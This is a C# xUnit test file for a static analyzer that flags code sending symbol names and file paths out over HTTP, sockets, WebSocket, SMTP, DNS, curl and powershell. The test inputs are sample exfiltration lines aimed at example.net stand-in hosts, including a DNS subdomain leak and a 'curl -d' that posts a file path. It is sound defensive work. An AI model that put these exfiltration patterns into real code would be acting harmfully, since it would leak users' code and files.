using System.Threading.Tasks;
using Xunit;
using static ExfilAnalyzers.Tests.Verifiers.FlowVerifier;

namespace ExfilAnalyzers.Tests.Models;

/// <summary>Raw network channels: HTTP, WebClient, request streams, sockets, web sockets, DNS and network tools.</summary>
public class NetworkSinkTests
{
    private const string Usings = """
        using System;
        using System.Diagnostics;
        using System.IO;
        using System.Net;
        using System.Net.Http;
        using System.Net.Sockets;
        using System.Net.WebSockets;
        using System.Text;
        using System.Threading;
        using System.Threading.Tasks;
        using Microsoft.CodeAnalysis;

        """;

    [Fact]
    public Task Http_client_methods_headers_and_query_strings()
    {
        return VerifyAsync(Usings + """
            class Agent
            {
                async Task Send(HttpClient http, ISymbol symbol)
                {
                    await http.PutAsync("https://x.example.net/p", {|EXF1002:{|EXF1006:new StringContent(symbol.Name)|}|});
                    await http.PatchAsync("https://x.example.net/p", {|EXF1002:{|EXF1006:new StringContent(symbol.Name)|}|});
                    await http.GetAsync({|EXF1002:{|EXF1006:"https://x.example.net/q?s=" + symbol.Name|}|});
                    var request = new HttpRequestMessage(HttpMethod.Post, "https://x.example.net/r") { Content = new StringContent(symbol.Name) };
                    await http.SendAsync({|EXF1002:{|EXF1006:request|}|});
                    var tagged = new HttpClient();
                    tagged.DefaultRequestHeaders.Add("X-Symbol", symbol.Name);
                    await {|EXF1002:{|EXF1006:tagged.GetAsync("https://x.example.net/h")|}|};
                    await http.GetAsync("https://x.example.net/ok?length=" + symbol.Name.Length);
                }
            }
            """);
    }

    [Fact]
    public Task Web_client_and_request_streams()
    {
        return VerifyAsync(Usings + """
            #pragma warning disable SYSLIB0014
            class Agent
            {
                void Send(ISymbol symbol)
                {
                    using var web = new WebClient();
                    web.UploadString("https://x.example.net/u", {|EXF1002:{|EXF1006:symbol.Name|}|});
                    web.UploadData("https://x.example.net/u", {|EXF1002:{|EXF1006:Encoding.UTF8.GetBytes(symbol.Name)|}|});

                    var request = WebRequest.Create("https://x.example.net/w");
                    request.Method = "POST";
                    using (var stream = request.GetRequestStream())
                    using (var writer = new StreamWriter(stream))
                    {
                        {|EXF1002:{|EXF1006:writer.Write(symbol.Name)|}|};
                    }

                    var bytes = Encoding.UTF8.GetBytes(symbol.ToDisplayString());
                    request.GetRequestStream().Write({|EXF1002:{|EXF1006:bytes|}|}, 0, bytes.Length);
                }
            }
            """);
    }

    [Fact]
    public Task Sockets_udp_tcp_and_web_sockets()
    {
        return VerifyAsync(Usings + """
            class Agent
            {
                async Task Send(ISymbol symbol, Socket socket, ClientWebSocket ws)
                {
                    var bytes = Encoding.UTF8.GetBytes(symbol.Name);
                    socket.Send({|EXF1002:{|EXF1006:bytes|}|});
                    using var udp = new UdpClient();
                    udp.Send({|EXF1002:{|EXF1006:bytes|}|}, bytes.Length, "collector.example.net", 514);
                    using var tcp = new TcpClient("collector.example.net", 9000);
                    tcp.GetStream().Write({|EXF1002:{|EXF1006:bytes|}|}, 0, bytes.Length);
                    await ws.SendAsync({|EXF1002:{|EXF1006:new ArraySegment<byte>(bytes)|}|}, WebSocketMessageType.Text, true, CancellationToken.None);
                }
            }
            """);
    }

    /// <summary>E-mail is a network channel too: the message's parts and the object that holds them are sent.</summary>
    [Fact]
    public Task Mail_through_smtp()
    {
        return VerifyAsync(Usings + """
            class Agent
            {
                async Task Send(ISymbol symbol, Document document)
                {
                    using var smtp = new System.Net.Mail.SmtpClient("smtp.example.net");
                    smtp.Send("agent@example.net", "team@example.net", "symbol", {|EXF1002:{|EXF1006:symbol.Name|}|});
                    var message = new System.Net.Mail.MailMessage("agent@example.net", "team@example.net") { Subject = "file" };
                    message.Body = document.FilePath;
                    await smtp.SendMailAsync({|EXF1003:{|EXF1006:message|}|});
                    smtp.Send("agent@example.net", "team@example.net", "count", symbol.Name.Length.ToString());
                }
            }
            """);
    }

    [Fact]
    public Task Dns_lookups_and_network_tools()
    {
        return VerifyAsync(Usings + """
            class Agent
            {
                void Send(ISymbol symbol, Document document)
                {
                    Dns.GetHostEntry({|EXF1002:{|EXF1006:symbol.Name + ".leak.example.net"|}|});
                    Process.Start("curl", {|EXF1003:{|EXF1006:"-d " + document.FilePath + " https://x.example.net"|}|});
                    var psi = new ProcessStartInfo("powershell") { Arguments = "Invoke-WebRequest -Body " + symbol.Name };
                    Process.Start({|EXF1002:{|EXF1006:psi|}|});
                    Process.Start("notepad", symbol.Name);
                    Dns.GetHostEntry("example.net");
                }
            }
            """);
    }

    /// <summary>
    /// A network stream handed to a constructor that stores a writer over it, by a member that sees no
    /// sensitive data: what is written through the field is sent. A file stream stored the same way, in
    /// a type no network stream reaches, is not; nor is a builder or a list that holds what was read
    /// from the network, or the stream itself: only a stream or writer writes into it.
    /// </summary>
    [Fact]
    public Task A_network_stream_stored_by_a_constructor_is_followed_to_where_it_is_written()
    {
        return VerifyAsync(Usings + """
            sealed class Journal
            {
                private readonly StreamWriter _writer;
                public Journal(Stream stream) => _writer = new StreamWriter(stream);
                public void Append(ISymbol symbol) => {|EXF1002:{|EXF1006:_writer.Write(symbol.Name)|}|};
            }

            sealed class Uplink
            {
                public Journal Open(TcpClient tcp) => new Journal(tcp.GetStream());
            }

            sealed class Diary
            {
                private readonly StreamWriter _writer;
                public Diary(string path) => _writer = new StreamWriter(File.OpenWrite(path));
                public void Append(ISymbol symbol) => _writer.Write(symbol.Name);
            }

            sealed class Transcript
            {
                private readonly StringBuilder _text;
                private readonly System.Collections.Generic.List<object> _parts;

                public Transcript(Stream stream)
                {
                    _text = new StringBuilder(new StreamReader(stream).ReadToEnd());
                    _parts = new System.Collections.Generic.List<object> { stream };
                }

                public void Note(ISymbol symbol) { _text.Append(symbol.Name); _parts.Add(symbol.Name); }
            }

            sealed class Listener
            {
                public Transcript Receive(TcpClient tcp) => new Transcript(tcp.GetStream());
            }
            """);
    }
}
